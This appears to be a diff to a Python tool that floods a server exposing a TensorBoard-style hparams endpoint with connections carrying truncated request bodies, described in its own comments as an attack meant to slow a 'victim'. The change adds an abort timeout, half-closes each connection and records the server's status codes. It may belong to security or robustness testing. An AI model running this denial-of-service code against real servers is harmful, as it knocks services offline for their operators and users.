@@ -16,6 +16,9 @@ MIB = 1024 * 1024
 SECONDS_MAX = 60.0
 """Seconds that an attack's requests may take before the attacker hangs up."""
 
+ABORT_SECONDS_MAX = 180.0
+"""Seconds after which no more requests are sent that are broken off."""
+
 _PROTOBUF = "application/x-protobuf"
 _HYPERPARAMETERS = "data/plugin/hparams/session_groups"
 _COMPARED = 10
@@ -37,8 +40,8 @@ class Attack:
 
 
 def _abort(target: Target, tally: Tally, request: bytes, count: int) -> None:
-    """Send a body but for its last bytes and hang up, one connection at a time."""
-    end = time.monotonic() + 3 * SECONDS_MAX
+    """Send a body but for its last bytes and end the connection, one at a time: the next when the server has closed."""
+    end = time.monotonic() + ABORT_SECONDS_MAX
     for each in target.repeated(request, count):
         if time.monotonic() > end and not target.is_endless:
             return
@@ -48,13 +51,13 @@ def _abort(target: Target, tally: Tally, request: bytes, count: int) -> None:
             try:
                 client.connect((target.host, target.port))
                 client.sendall(each)
+                client.shutdown(socket.SHUT_WR)
+                outcome = client.recv(16)[9:12].decode("latin-1") or "aborted"
             except OSError:
-                tally.add("cut off")
-                time.sleep(0.05)
-                continue
-        tally.add("aborted")
-        if target.is_endless:
-            time.sleep(0.01)  # 100 MB/s: copying them must not be what slows the victim
+                outcome = "cut off"
+        tally.add(outcome)
+        if target.is_endless or outcome != "aborted":
+            time.sleep(0.01)  # copying at most 100 MB/s, the attacker's CPU is not what slows the victim
 
 
 def _json_body(target: Target) -> bytes:
